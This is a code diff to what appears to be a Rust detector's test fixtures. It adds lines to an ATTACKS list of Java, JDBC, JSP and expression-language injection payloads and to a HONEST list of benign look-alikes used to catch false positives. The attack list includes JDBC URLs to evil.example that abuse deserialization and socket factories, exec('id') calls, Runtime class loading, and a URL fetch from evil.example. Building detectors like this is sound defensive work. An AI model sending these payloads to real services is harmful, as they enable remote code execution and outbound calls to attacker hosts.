@@ -42,6 +42,9 @@ const ATTACKS: &[&str] = &[
     "jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
     "jdbc:postgresql://evil.example/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x",
     "exec(\"id\")",
+    "new java.net.URL(\"http://evil.example\").text",
+    "<%out.println(1)%>",
+    "<%@ page import=\"java.io.*\"%>",
     "ex=exec(\"id\");",
     "Class.forName(\"java.lang.Runtime\")",
     "${pageContext.request.getSession().setAttribute(\"a\",\"b\")}",
@@ -105,6 +108,8 @@ const HONEST: &[&str] = &[
     "interpreter needed",
     "unsafe abortion",
     "java.lang",
+    "100 <% discount",
+    "public void run(){ Class.forName(\"com.mysql.jdbc.Driver\"); }",
     "javax.servlet.http.HttpServlet",
 ];
 
